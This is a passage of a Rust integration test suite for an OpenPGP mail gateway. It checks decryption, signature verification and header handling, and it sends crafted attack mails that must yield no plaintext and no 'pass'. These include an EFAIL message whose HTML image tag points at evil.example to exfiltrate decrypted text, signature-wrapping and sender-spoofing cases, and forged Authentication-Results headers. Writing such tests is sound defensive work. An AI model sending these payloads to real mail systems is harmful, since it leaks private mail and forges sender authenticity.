//! Inbound decryption and verification through the real binary: messages made by gpg 2.2,
//! by sq and by sealpost's own outbound path arrive over SMTP at the inbound listener,
//! and what reaches the mailbox side (smtp-sink, a Maildir) is checked. Attacks from
//! `security.md` each get a crafted message: none may yield plaintext or a `pass`.
//!
//! One gateway per test function: each function sends several cases to it and tells the
//! copies apart by an `X-Test-Case` header, which the gateway keeps in the outer header.

use std::path::Path;
use std::time::Duration;

use sealpost_keyring::openpgp;

use super::common::{sq, swaks_to, write, Gpg, Raw, Sealpost, Server};
use super::upstream::{wait_for, SmtpSink};

const LONG: Duration = Duration::from_secs(60);
const AUTHSERV: &str = "mx.example.org";

/// A receiving organisation: local users Bob and Carol (keys made by sealpost), a known
/// outside sender Alice (gpg), a known sender Mallory whose user ID is his own, and Eve,
/// whom the keyring does not know.
struct World {
    s: Sealpost,
    alice: Gpg,
    mallory: Gpg,
    eve: Gpg,
    bob_fpr: String,
    carol_fpr: String,
    alice_fpr: String,
    tmp: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let s = Sealpost::new();
        let bob_fpr = s.generate("bob@example.org", &[]);
        let carol_fpr = s.generate("carol@example.org", &[]);
        let alice = Gpg::new();
        let alice_fpr = alice.generate("Alice <alice@example.net>", "default", "default", "never");
        let mallory = Gpg::new();
        mallory.generate(
            "Mallory <mallory@evil.example>",
            "default",
            "default",
            "never",
        );
        let eve = Gpg::new();
        eve.generate("Eve <alice@example.net>", "default", "default", "never");
        for g in [&alice, &mallory, &eve] {
            for who in ["bob@example.org", "carol@example.org"] {
                g.ok_with_input(&["--import"], s.ok(&["keys", "export", who]).as_bytes());
            }
        }
        for (g, who) in [
            (&alice, "alice@example.net"),
            (&mallory, "mallory@evil.example"),
        ] {
            let cert = g.ok(&["--armor", "--export", who]);
            assert!(s
                .run_with_input(&["keys", "import", "-"], &cert)
                .status
                .success());
        }
        World {
            s,
            alice,
            mallory,
            eve,
            bob_fpr,
            carol_fpr,
            alice_fpr,
            tmp: tempfile::tempdir().expect("tempdir"),
        }
    }

    /// `serve` with one inbound listener delivering to `deliver`.
    fn serve(&self, deliver: &str, extra: &str) -> Server {
        self.s.serve(&config(deliver, extra), &[])
    }

    /// A fresh smtp-sink and the gateway delivering to it.
    fn serve_to_sink(&self, extra: &str) -> (SmtpSink, Server) {
        let sink = SmtpSink::start(&[]);
        let gw = self.serve(&sink.address(), extra);
        (sink, gw)
    }
}

fn config(deliver: &str, extra: &str) -> String {
    format!(
        "hostname = \"{AUTHSERV}\"\n\n[[listener]]\nmode = \"inbound\"\naddress = \"127.0.0.1:0\"\n\
         tls = \"none\"\n\n[inbound]\ndeliver = \"{deliver}\"\n{extra}"
    )
}

/// `text` with every line ending made CRLF.
fn crlf(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\n', "\r\n")
}

fn utf8(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).expect("UTF-8")
}

/// An RFC 3156 `multipart/encrypted` message around `armored`.
fn pgp_mime_from(case: &str, from: &str, to: &str, subject: &str, armored: &str) -> String {
    crlf(&format!(
        "From: {from}\nTo: {to}\nSubject: {subject}\nMessage-ID: <{case}@example.net>\n\
         X-Test-Case: {case}\nMIME-Version: 1.0\n\
         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc-{case}\"\n\n\
         This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n\
         --enc-{case}\nContent-Type: application/pgp-encrypted\nContent-Description: PGP/MIME version identification\n\n\
         Version: 1\n\n\
         --enc-{case}\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\
         Content-Disposition: inline; filename=\"encrypted.asc\"\n\n\
         {armored}\n--enc-{case}--\n"
    ))
}

/// A single-part text message whose body is `body`.
fn text_message_from(case: &str, from: &str, to: &str, subject: &str, body: &str) -> String {
    crlf(&format!(
        "From: {from}\nTo: {to}\nSubject: {subject}\nMessage-ID: <{case}@example.net>\n\
         X-Test-Case: {case}\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n{body}"
    ))
}

/// [`pgp_mime_from`] from Alice to Bob, with the case as the subject.
fn pgp_mime(case: &str, armored: &str) -> String {
    pgp_mime_from(
        case,
        "Alice <alice@example.net>",
        "bob@example.org",
        case,
        armored,
    )
}

/// [`text_message_from`] from Alice to Bob, with the case as the subject.
fn text_message(case: &str, body: &str) -> String {
    text_message_from(
        case,
        "Alice <alice@example.net>",
        "bob@example.org",
        case,
        body,
    )
}

/// A `multipart/signed` message: `part` (CRLF, no final line end) signed by `signature`.
fn multipart_signed(case: &str, from: &str, to: &str, part: &str, signature: &str) -> String {
    crlf(&format!(
        "From: {from}\nTo: {to}\nSubject: signed {case}\nMessage-ID: <{case}@example.net>\n\
         X-Test-Case: {case}\nMIME-Version: 1.0\n\
         Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"sig-{case}\"\n\n\
         --sig-{case}\n{part}\n--sig-{case}\n\
         Content-Type: application/pgp-signature; name=\"signature.asc\"\n\n\
         {signature}\n--sig-{case}--\n"
    ))
}

/// A MIME part to be signed, with CRLF line ends and no final line end (RFC 3156 §5).
fn signed_part(text: &str) -> String {
    crlf(&format!(
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 7bit\n\n{text}"
    ))
}

/// gpg's detached, armored signature over the exact bytes of `part`.
fn gpg_detached(g: &Gpg, signer: &str, part: &str) -> String {
    utf8(g.ok_with_input(
        &[
            "--armor",
            "--detach-sign",
            "--digest-algo",
            "SHA256",
            "-u",
            signer,
        ],
        part.as_bytes(),
    ))
}

/// gpg's armored encryption of `input` to `to`, signed by `signer` if given, with `options`.
fn gpg_encrypt(
    g: &Gpg,
    options: &[&str],
    signer: Option<&str>,
    to: &[&str],
    input: &[u8],
) -> String {
    let mut args = vec!["--armor", "--encrypt"];
    args.extend_from_slice(options);
    if let Some(signer) = signer {
        args.extend(["--sign", "-u", signer]);
    }
    for r in to {
        args.extend(["-r", r]);
    }
    utf8(g.ok_with_input(&args, input))
}

/// Binary OpenPGP data in ASCII armor (sequoia's writer).
fn armor(binary: &[u8]) -> String {
    use std::io::Write;
    let mut w = openpgp::armor::Writer::new(Vec::new(), openpgp::armor::Kind::Message)
        .expect("armor writer");
    w.write_all(binary).expect("armor");
    utf8(w.finalize().expect("armor"))
}

/// Sends `message` byte-exact from `from` to `rcpts` and returns the reply to the final dot.
fn send(port: u16, from: &str, rcpts: &[&str], message: &str) -> String {
    let mut c = Raw::connect(port);
    assert!(c.cmd("EHLO client.example.net").starts_with("250"));
    let r = c.cmd(&format!("MAIL FROM:<{from}>"));
    assert!(r.starts_with("250"), "{r}");
    for rcpt in rcpts {
        let r = c.cmd(&format!("RCPT TO:<{rcpt}>"));
        assert!(r.starts_with("250"), "RCPT {rcpt}: {r}");
    }
    assert!(c.cmd("DATA").starts_with("354"));
    let mut data = String::with_capacity(message.len() + 16);
    for line in message.split_inclusive("\r\n") {
        if line.starts_with('.') {
            data.push('.');
        }
        data.push_str(line);
    }
    if !data.ends_with("\r\n") {
        data.push_str("\r\n");
    }
    data.push_str(".\r\n");
    c.send(data.as_bytes());
    let reply = c.reply();
    let _ = c.cmd("QUIT");
    reply
}

fn delivered(port: u16, from: &str, rcpts: &[&str], message: &str) {
    let reply = send(port, from, rcpts, message);
    assert!(reply.starts_with("250"), "{reply}");
}

/// The copy of `case` that reached `sink` for `rcpt`, as text with CRLF line ends.
fn copy_for(sink: &SmtpSink, case: &str, rcpt: &str) -> String {
    let marker = format!("X-Test-Case: {case}\n");
    wait_for(LONG, &format!("{case} for {rcpt} at smtp-sink"), || {
        sink.messages().into_iter().find_map(|d| {
            let text = d.text().replace("\r\n", "\n");
            (text.contains(&marker) && d.recipients.iter().any(|r| r == rcpt)).then(|| crlf(&text))
        })
    })
}

/// Sends `message` from Alice to Bob and returns the copy of `case` delivered for Bob.
fn to_bob(port: u16, sink: &SmtpSink, case: &str, message: &str) -> String {
    delivered(port, "alice@example.net", &["bob@example.org"], message);
    copy_for(sink, case, "bob@example.org")
}

/// The header section of `message`, unfolded: one `(name, value)` per field.
fn fields(message: &str) -> Vec<(String, String)> {
    let head = message.split("\r\n\r\n").next().unwrap_or_default();
    let mut out: Vec<(String, String)> = Vec::new();
    for line in head.split("\r\n") {
        if line.starts_with([' ', '\t']) {
            if let Some(last) = out.last_mut() {
                last.1.push(' ');
                last.1.push_str(line.trim());
            }
        } else if let Some((n, v)) = line.split_once(':') {
            out.push((n.to_string(), v.trim().to_string()));
        }
    }
    out
}

fn field_values(message: &str, name: &str) -> Vec<String> {
    fields(message)
        .into_iter()
        .filter(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v)
        .collect()
}

/// Our verdict and our Authentication-Results, checking there is exactly one of each.
fn results(message: &str) -> (String, String) {
    let verdicts = field_values(message, "X-Sealpost-Verdict");
    assert_eq!(verdicts.len(), 1, "one verdict: {message}");
    let ours: Vec<String> = field_values(message, "Authentication-Results")
        .into_iter()
        .filter(|v| {
            v.split(';')
                .next()
                .is_some_and(|id| id.trim().eq_ignore_ascii_case(AUTHSERV))
        })
        .collect();
    assert_eq!(
        ours.len(),
        1,
        "one Authentication-Results of ours: {message}"
    );
    (verdicts[0].clone(), ours[0].clone())
}

/// The verdict's `key=value` for `key`.
fn verdict_of(verdict: &str, key: &str) -> String {
    verdict
        .split(';')
        .filter_map(|kv| kv.trim().split_once('='))
        .find(|(k, _)| *k == key)
        .map(|(_, v)| v.trim_matches('"').to_string())
        .unwrap_or_else(|| panic!("no {key} in {verdict}"))
}

fn pgp_result(ar: &str) -> String {
    ar.split_whitespace()
        .find_map(|t| t.strip_prefix("pgp="))
        .map(|t| t.trim_end_matches(';').to_string())
        .unwrap_or_else(|| panic!("no pgp= in {ar}"))
}

/// Waits for `case`'s copy for Bob and checks its verdict's `key=value` pairs and, when
/// given, its `pgp=` result.
fn check(sink: &SmtpSink, case: &str, verdict: &[(&str, &str)], pgp: Option<&str>) -> String {
    let copy = copy_for(sink, case, "bob@example.org");
    let (v, ar) = results(&copy);
    for (key, want) in verdict {
        assert_eq!(verdict_of(&v, key), *want, "{case}: {copy}");
    }
    if let Some(want) = pgp {
        assert_eq!(pgp_result(&ar), want, "{case}: {copy}");
    }
    copy
}

/// Checks a copy that must be decrypted and validly signed by Alice.
fn assert_pass(copy: &str, alice_fpr: &str, decrypted: bool) {
    let (v, ar) = results(copy);
    assert_eq!(verdict_of(&v, "signature"), "valid", "{copy}");
    assert_eq!(pgp_result(&ar), "pass", "{copy}");
    assert!(ar.contains("header.from=alice@example.net"), "{ar}");
    assert!(
        verdict_of(&v, "signer").eq_ignore_ascii_case(alice_fpr),
        "{v}"
    );
    let enc = verdict_of(&v, "encryption");
    if decrypted {
        assert_eq!(enc, "decrypted", "{copy}");
        assert!(ar.contains("policy.encrypted=yes"), "{ar}");
        assert!(!copy.contains("BEGIN PGP MESSAGE"), "{copy}");
    } else {
        assert_eq!(enc, "none", "{copy}");
    }
}

/// Checks that nothing of `secret` reached the copy and that it is not a pass.
fn assert_sealed(copy: &str, secret: &str) {
    assert!(!copy.contains(secret), "plaintext leaked: {copy}");
    let (_, ar) = results(copy);
    assert_ne!(pgp_result(&ar), "pass", "{copy}");
}

fn maildir_files(dir: &Path) -> Vec<String> {
    let new = dir.join("new");
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(new) {
        for e in entries.flatten() {
            if let Ok(text) = std::fs::read(e.path()) {
                out.push(String::from_utf8_lossy(&text).into_owned());
            }
        }
    }
    out
}

#[test]
fn gpg_mail_is_decrypted_verified_and_delivered() {
    let w = World::new();
    let (sink, gw) = w.serve_to_sink("");
    let port = gw.port();
    let gpg = |args: &[&str], input: &str| utf8(w.alice.ok_with_input(args, input.as_bytes()));
    let enc_sign = [
        "--armor",
        "--encrypt",
        "--sign",
        "-u",
        "alice@example.net",
        "-r",
        "bob@example.org",
    ];

    // PGP/MIME, encrypted and signed, sent by swaks; like many mail clients, the payload
    // repeats the Subject without declaring it protected.
    let payload = crlf(
        "Subject: the vault\nContent-Type: text/html; charset=utf-8\n\
         Content-Transfer-Encoding: 8bit\n\n\
         <p>Grüße, Bob: the vault code is 4711.</p>\n",
    );
    let msg = pgp_mime("gpg-pgp-mime", &gpg(&enc_sign, &payload));
    let file = write(w.tmp.path(), "pgp-mime.eml", msg.as_bytes());
    let (ok, out) = swaks_to(
        port,
        "alice@example.net",
        "bob@example.org",
        &["--data", file.to_str().unwrap()],
    );
    assert!(ok, "{out}");
    let copy = copy_for(&sink, "gpg-pgp-mime", "bob@example.org");
    assert_pass(&copy, &w.alice_fpr, true);
    assert!(
        copy.contains("Content-Type: text/html"),
        "the payload's own type: {copy}"
    );
    assert!(copy.contains("4711"), "the decrypted text: {copy}");
    let (v, ar) = results(&copy);
    assert!(
        verdict_of(&v, "key").eq_ignore_ascii_case(&w.bob_fpr),
        "decrypted with Bob's key: {v}"
    );
    assert!(
        ar.contains(&format!("policy.decryption-key={}", w.bob_fpr)),
        "{ar}"
    );
    // 8-bit UTF-8 arrives 7-bit clean, with the same text once decoded.
    assert!(copy.bytes().all(|b| b < 0x80), "7-bit output: {copy}");
    assert_eq!(verdict_of(&v, "protected-headers"), "kept-apart", "{v}");
    assert!(
        copy.contains("\r\nX-Sealpost-Protected-Subject: the vault\r\n"),
        "{copy}"
    );
    assert_eq!(field_values(&copy, "Subject"), ["gpg-pgp-mime"], "{copy}");

    // Inline PGP: a text body that is one armored, encrypted and signed message.
    let armored = gpg(&enc_sign, "Inline secret for Bob: 8086.\n");
    let copy = to_bob(
        port,
        &sink,
        "gpg-inline",
        &text_message("gpg-inline", &armored),
    );
    assert_pass(&copy, &w.alice_fpr, true);
    assert!(copy.contains("Inline secret for Bob: 8086."), "{copy}");

    // ZIP-compressed.
    let mut zip = enc_sign.to_vec();
    zip.extend(["--compress-algo", "zip"]);
    let armored = gpg(
        &zip,
        &crlf("Content-Type: text/plain\n\nZipped secret 6502.\n"),
    );
    let copy = to_bob(port, &sink, "gpg-zip", &pgp_mime("gpg-zip", &armored));
    assert_pass(&copy, &w.alice_fpr, true);
    assert!(copy.contains("Zipped secret 6502."), "{copy}");

    // multipart/signed: verified over the exact bytes, delivered byte-identical.
    let part = signed_part("Signed, not sealed: 1984.");
    let msg = multipart_signed(
        "gpg-signed",
        "Alice <alice@example.net>",
        "bob@example.org",
        &part,
        &gpg_detached(&w.alice, "alice@example.net", &part),
    );
    let copy = to_bob(port, &sink, "gpg-signed", &msg);
    assert_pass(&copy, &w.alice_fpr, false);
    let body = |m: &str| {
        m.split_once("\r\n\r\n")
            .map(|(_, b)| b.to_string())
            .unwrap()
    };
    assert_eq!(
        body(&copy).trim_end(),
        body(&msg).trim_end(),
        "body unchanged"
    );

    // Cleartext-signed.
    let signed = gpg(
        &["--clearsign", "-u", "alice@example.net"],
        "Clear and signed: 42.\n",
    );
    let copy = to_bob(
        port,
        &sink,
        "gpg-clearsign",
        &text_message("gpg-clearsign", &signed),
    );
    assert_pass(&copy, &w.alice_fpr, false);

    // Plain mail: no signature, nothing to decrypt, still a verdict.
    delivered(
        port,
        "alice@example.net",
        &["bob@example.org"],
        &text_message("plain", "Just text.\n"),
    );
    check(
        &sink,
        "plain",
        &[("signature", "none"), ("encryption", "none")],
        Some("none"),
    );

    // To a Maildir as well.
    let maildir = w.tmp.path().join("Maildir");
    drop(gw);
    let gw = w.serve(&format!("maildir:{}", maildir.display()), "");
    let armored = gpg(
        &enc_sign,
        &crlf("Content-Type: text/plain\n\nFor the Maildir: 1337.\n"),
    );
    delivered(
        gw.port(),
        "alice@example.net",
        &["bob@example.org"],
        &pgp_mime("gpg-maildir", &armored),
    );
    let copy = wait_for(LONG, "a Maildir file", || {
        maildir_files(&maildir)
            .into_iter()
            .find(|m| m.contains("X-Test-Case: gpg-maildir"))
    });
    assert_pass(&crlf(&copy), &w.alice_fpr, true);
    assert!(copy.contains("For the Maildir: 1337."), "{copy}");
}

#[test]
fn two_local_recipients_each_get_a_copy_decrypted_with_their_own_key() {
    let w = World::new();
    let (sink, gw) = w.serve_to_sink("");
    let armored = gpg_encrypt(
        &w.alice,
        &[],
        Some("alice@example.net"),
        &["bob@example.org", "carol@example.org"],
        crlf("Content-Type: text/plain\n\nFor both of you: 2600.\n").as_bytes(),
    );
    delivered(
        gw.port(),
        "alice@example.net",
        &["bob@example.org", "carol@example.org"],
        &pgp_mime_from(
            "two",
            "Alice <alice@example.net>",
            "bob@example.org, carol@example.org",
            "two",
            &armored,
        ),
    );
    for (who, fpr) in [
        ("bob@example.org", &w.bob_fpr),
        ("carol@example.org", &w.carol_fpr),
    ] {
        let copy = copy_for(&sink, "two", who);
        assert_pass(&copy, &w.alice_fpr, true);
        let (v, _) = results(&copy);
        assert!(
            verdict_of(&v, "key").eq_ignore_ascii_case(fpr),
            "{who}: {v}"
        );
        assert!(copy.contains("For both of you: 2600."), "{copy}");
    }
}

const DAVE: &str = "Dave <dave@example.com>";

#[test]
fn sq_mail_is_decrypted_and_verified() {
    let w = World::new();
    let dir = w.tmp.path();
    let key = dir.join("dave.key");
    let path = |p: &Path| p.to_str().unwrap().to_string();
    sq(&[
        "key",
        "generate",
        "--userid",
        "Dave <dave@example.com>",
        "--export",
        &path(&key),
    ]);
    let cert = write(dir, "dave.cert", &sq(&["key", "extract-cert", &path(&key)]));
    assert!(w
        .s
        .ok(&["keys", "import", &path(&cert)])
        .contains("dave@example.com"));
    let bob = write(
        dir,
        "bob.cert",
        w.s.ok(&["keys", "export", "bob@example.org"]).as_bytes(),
    );
    let (sink, gw) = w.serve_to_sink("");
    let port = gw.port();
    let dave_fpr = {
        let listing = w.s.list_json();
        listing
            .as_array()
            .and_then(|a| {
                a.iter()
                    .find(|k| k.to_string().contains("dave@example.com"))
            })
            .and_then(|k| k["fingerprint"].as_str())
            .expect("dave in the keyring")
            .to_string()
    };
    let check = |copy: &str, decrypted: bool| {
        let (v, ar) = results(copy);
        assert_eq!(verdict_of(&v, "signature"), "valid", "{copy}");
        assert_eq!(pgp_result(&ar), "pass", "{copy}");
        assert!(ar.contains("header.from=dave@example.com"), "{ar}");
        assert!(
            verdict_of(&v, "signer").eq_ignore_ascii_case(&dave_fpr),
            "{v}"
        );
        let want = if decrypted { "decrypted" } else { "none" };
        assert_eq!(verdict_of(&v, "encryption"), want, "{copy}");
    };

    let from_dave = |case: &str, message: String| {
        delivered(port, "dave@example.com", &["bob@example.org"], &message);
        copy_for(&sink, case, "bob@example.org")
    };

    let payload = write(
        dir,
        "payload",
        crlf("Content-Type: text/plain\n\nFrom sq: 7777.\n").as_bytes(),
    );
    let encrypt = |options: &[&str], file: &Path| {
        let mut args = vec!["encrypt".to_string()];
        args.extend(options.iter().map(|o| o.to_string()));
        args.extend(["--recipient-cert".into(), path(&bob)]);
        args.extend(["--signer-key".into(), path(&key), path(file)]);
        utf8(sq(&args.iter().map(String::as_str).collect::<Vec<_>>()))
    };
    let armored = encrypt(&[], &payload);
    let copy = from_dave(
        "sq-pgp-mime",
        pgp_mime_from("sq-pgp-mime", DAVE, "bob@example.org", "sq", &armored),
    );
    check(&copy, true);
    assert!(copy.contains("From sq: 7777."), "{copy}");

    // Inline, ZIP-compressed.
    let text = write(dir, "inline", b"Inline from sq, zipped: 6502.\n");
    let armored = encrypt(&["--compression", "zip"], &text);
    let copy = from_dave(
        "sq-inline-zip",
        text_message_from("sq-inline-zip", DAVE, "bob@example.org", "inline", &armored),
    );
    check(&copy, true);
    assert!(copy.contains("Inline from sq, zipped: 6502."), "{copy}");

    let part = signed_part("Signed by sq: 8888.");
    let part_file = write(dir, "part", part.as_bytes());
    let sig = utf8(sq(&[
        "sign",
        "--detached",
        "--signer-key",
        &path(&key),
        &path(&part_file),
    ]));
    let copy = from_dave(
        "sq-signed",
        multipart_signed("sq-signed", DAVE, "bob@example.org", &part, &sig),
    );
    check(&copy, false);

    let text = write(dir, "text", b"Cleartext from sq: 9999.\n");
    let signed = utf8(sq(&[
        "sign",
        "--cleartext-signature",
        "--signer-key",
        &path(&key),
        &path(&text),
    ]));
    let copy = from_dave(
        "sq-clear",
        text_message_from("sq-clear", DAVE, "bob@example.org", "clear", &signed),
    );
    check(&copy, false);
}

/// Erin's organisation: a sealpost with her key and Bob's certificate; her fingerprint.
fn erin(w: &World) -> (Sealpost, String) {
    let erin = Sealpost::new();
    let fpr = erin.generate("erin@example.com", &[]);
    let bob_cert = w.s.ok(&["keys", "export", "bob@example.org"]);
    assert!(erin
        .run_with_input(&["keys", "import", "-"], bob_cert.as_bytes())
        .status
        .success());
    (erin, fpr)
}

/// Erin's outbound listener, which sends on to `inbound` (Bob's gateway).
fn erin_outbound(erin: &Sealpost, inbound: u16) -> Server {
    erin.serve(
        &format!(
            "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
             [upstream]\naddress = \"127.0.0.1:{inbound}\"\ntls = \"none\"\n"
        ),
        &[],
    )
}

#[test]
fn sealpost_outbound_to_sealpost_inbound_round_trip() {
    // Bob's organisation: the inbound gateway of `World`. Erin's: another sealpost that
    // encrypts and signs on the way out.
    let w = World::new();
    let (erin, erin_fpr) = erin(&w);
    let erin_cert = erin.ok(&["keys", "export", "erin@example.com"]);
    assert!(w
        .s
        .run_with_input(&["keys", "import", "-"], erin_cert.as_bytes())
        .status
        .success());

    let (sink, inbound) = w.serve_to_sink("");
    let outbound = erin_outbound(&erin, inbound.port());
    let (ok, out) = swaks_to(
        outbound.port(),
        "erin@example.com",
        "bob@example.org",
        &[
            "--header",
            "From: Erin <erin@example.com>",
            "--header",
            "Subject: the round trip",
            "--header",
            "X-Test-Case: round-trip",
            "--body",
            "Both ways through sealpost: 3141.",
        ],
    );
    assert!(ok, "{out}");
    let copy = first_copy(&sink, "the round trip");
    let (v, ar) = results(&copy);
    assert_eq!(verdict_of(&v, "signature"), "valid", "{copy}");
    assert_eq!(verdict_of(&v, "encryption"), "decrypted", "{copy}");
    assert_eq!(verdict_of(&v, "protected-headers"), "applied", "{copy}");
    assert!(
        verdict_of(&v, "signer").eq_ignore_ascii_case(&erin_fpr),
        "{v}"
    );
    assert_eq!(pgp_result(&ar), "pass", "{copy}");
    // The signed protected Subject replaces the outer "[...]".
    assert_eq!(
        field_values(&copy, "Subject"),
        vec!["the round trip".to_string()],
        "{copy}"
    );
    assert!(field_values(&copy, "HP-Outer").is_empty(), "{copy}");
    assert!(copy.contains("Both ways through sealpost: 3141."), "{copy}");
}

/// First contact: Erin's gateway encrypts and signs to Bob, whose gateway has never seen
/// Erin's key. The signature is not `valid`, so no addressing field of the payload replaces
/// an outer one, but Bob sees the real Subject instead of the placeholder `[...]`, which is
/// no more authentic than it.
#[test]
fn first_contact_shows_the_real_subject_without_trusting_the_sender() {
    let w = World::new();
    let (erin, _) = erin(&w);
    let (sink, inbound) = w.serve_to_sink("");
    let outbound = erin_outbound(&erin, inbound.port());
    let (ok, out) = swaks_to(
        outbound.port(),
        "erin@example.com",
        "bob@example.org",
        &[
            "--header",
            "From: Erin <erin@example.com>",
            "--header",
            "Subject: our first contact",
            "--header",
            "X-Test-Case: first-contact",
            "--body",
            "Nice to meet you: 2718.",
        ],
    );
    assert!(ok, "{out}");
    let copy = first_copy(&sink, "the first contact");
    let (v, _) = results(&copy);
    assert_eq!(verdict_of(&v, "encryption"), "decrypted", "{copy}");
    assert_ne!(verdict_of(&v, "signature"), "valid", "{copy}");
    assert_eq!(verdict_of(&v, "protected-headers"), "kept-apart", "{copy}");
    assert_eq!(
        field_values(&copy, "Subject"),
        vec!["our first contact".to_string()],
        "{copy}"
    );
    // What else travelled inside only is shown apart, never as the message's own.
    assert!(field_values(&copy, "X-Test-Case").is_empty(), "{copy}");
    assert_eq!(
        field_values(&copy, "X-Sealpost-Protected-X-Test-Case"),
        vec!["first-contact".to_string()],
        "{copy}"
    );
    assert_eq!(
        field_values(&copy, "X-Sealpost-Protected-From"),
        vec!["Erin <erin@example.com>".to_string()],
        "{copy}"
    );
    assert!(copy.contains("Nice to meet you: 2718."), "{copy}");
}

#[test]
fn attacks_yield_no_plaintext_and_no_pass() {
    let w = World::new();
    let (sink, gw) = w.serve_to_sink("max_plaintext = \"8MiB\"\n");
    let port = gw.port();
    let alice = "Alice <alice@example.net>";
    let send_bob = |msg: &str| delivered(port, "alice@example.net", &["bob@example.org"], msg);
    let encrypt_to = |to: &str, text: &str| {
        gpg_encrypt(
            &w.alice,
            &[],
            Some("alice@example.net"),
            &[to],
            crlf(&format!("Content-Type: text/plain\n\n{text}\n")).as_bytes(),
        )
    };
    let binary_to_bob = |text: &str| {
        w.alice.ok_with_input(
            &["--encrypt", "-r", "bob@example.org"],
            crlf(&format!("Content-Type: text/plain\n\n{text}\n")).as_bytes(),
        )
    };

    // No relay: the local domains are those of the keyring's secret keys (none set).
    let (ok, out) = swaks_to(port, "alice@example.net", "someone@example.net", &[]);
    assert!(!ok, "{out}");
    assert!(
        out.contains("<** 550 5.7.1 <someone@example.net>: relaying denied"),
        "{out}"
    );

    // EFAIL direct exfiltration: HTML, the ciphertext, HTML, in multipart/mixed.
    let armored = encrypt_to("bob@example.org", "EFAIL secret 5150");
    let efail = crlf(&format!(
        "From: {alice}\nTo: bob@example.org\nSubject: efail\nX-Test-Case: efail\nMIME-Version: 1.0\n\
         Content-Type: multipart/mixed; boundary=\"mix\"\n\n\
         --mix\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n\
         --mix\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\n\n\
         --enc\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
         --enc\nContent-Type: application/octet-stream\n\n{armored}\n--enc--\n\n\
         --mix\nContent-Type: text/html\n\n\">\n--mix--\n"
    ));
    send_bob(&efail);
    let copy = check(&sink, "efail", &[("encryption", "nested-ignored")], None);
    assert_sealed(&copy, "EFAIL secret 5150");

    // SED, from gpg --rfc2440: no integrity protection.
    let sed = gpg_encrypt(
        &w.alice,
        &["--rfc2440", "--cipher-algo", "CAST5"],
        None,
        &["bob@example.org"],
        b"SED secret 6809\n",
    );
    send_bob(&pgp_mime("sed", &sed));
    let copy = check(
        &sink,
        "sed",
        &[("encryption", "no-integrity")],
        Some("fail"),
    );
    assert_sealed(&copy, "SED secret 6809");

    // Truncated ciphertext.
    let mut truncated = binary_to_bob("Truncated secret 8080");
    truncated.truncate(truncated.len() - 10);
    send_bob(&pgp_mime("truncated", &armor(&truncated)));
    let copy = check(
        &sink,
        "truncated",
        &[("encryption", "integrity-failure")],
        None,
    );
    assert_sealed(&copy, "Truncated secret");

    // A flipped MDC (the last byte of the SEIPD packet is the MDC's).
    let mut flipped = binary_to_bob("Flipped secret 6800");
    if let Some(last) = flipped.last_mut() {
        *last ^= 0x01;
    }
    send_bob(&pgp_mime("mdc", &armor(&flipped)));
    let copy = check(
        &sink,
        "mdc",
        &[("encryption", "integrity-failure")],
        Some("fail"),
    );
    assert_sealed(&copy, "Flipped secret");

    // A validly signed part inside an unsigned wrapper with the attacker's text.
    let part = signed_part("The genuine words of Alice.");
    let sig = gpg_detached(&w.alice, "alice@example.net", &part);
    let wrapped = crlf(&format!(
        "From: {alice}\nTo: bob@example.org\nSubject: wrapped\nX-Test-Case: wrapped\nMIME-Version: 1.0\n\
         Content-Type: multipart/mixed; boundary=\"outer\"\n\n\
         --outer\nContent-Type: text/plain\n\nYou are fired. -- Alice\n\
         --outer\nContent-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"sig\"\n\n\
         --sig\n{part}\n--sig\nContent-Type: application/pgp-signature\n\n{sig}\n--sig--\n\n--outer--\n"
    ));
    send_bob(&wrapped);
    check(
        &sink,
        "wrapped",
        &[("signature", "partial")],
        Some("neutral"),
    );

    // Signatures that must not pass: a key whose user ID is not the From address, a
    // key the keyring does not know (its user ID claims Alice's address), two From
    // addresses, a signed part changed in transit, and another address shown as the
    // From display name.
    let two = "alice@example.net, mallory@evil.example";
    let cases = [
        (
            "mismatch",
            &w.mallory,
            "mallory@evil.example",
            alice,
            false,
            "from-mismatch",
            "fail",
        ),
        (
            "unknown",
            &w.eve,
            "alice@example.net",
            alice,
            false,
            "unknown-signer",
            "neutral",
        ),
        (
            "two-from",
            &w.alice,
            "alice@example.net",
            two,
            false,
            "multiple-from",
            "fail",
        ),
        (
            "changed",
            &w.alice,
            "alice@example.net",
            alice,
            true,
            "invalid",
            "fail",
        ),
        (
            "display-name",
            &w.alice,
            "alice@example.net",
            "\"ceo@example.net\" <alice@example.net>",
            false,
            "display-name-mismatch",
            "fail",
        ),
    ];
    for (case, g, key, from, change, want, pgp) in cases {
        let part = signed_part(&format!("Signed for {case}: pay 10 EUR to Bob."));
        let sig = gpg_detached(g, key, &part);
        let sent = if change {
            part.replace("10 EUR", "9999 EUR")
        } else {
            part
        };
        send_bob(&multipart_signed(
            case,
            from,
            "bob@example.org",
            &sent,
            &sig,
        ));
        let copy = check(&sink, case, &[("signature", want)], Some(pgp));
        assert!(!copy.contains("header.from=mallory"), "{copy}");
    }

    // Forged results, outside and inside an (unsigned) encrypted payload.
    let forged = "Authentication-Results: mx.example.org; pgp=pass header.from=alice@example.net\n\
                  authentication-results: MX.EXAMPLE.ORG;\n\tpgp=pass\n\
                  X-Sealpost-Verdict: signature=valid; encryption=decrypted\n\
                  x-sealpost-verdict:\n signature=valid\n\
                  X-SEALPOST-Protected-Subject: forged\n";
    let inner = gpg_encrypt(
        &w.alice,
        &[],
        None,
        &["bob@example.org"],
        crlf(&format!(
            "{forged}Content-Type: text/plain\n\nInner text 1066.\n"
        ))
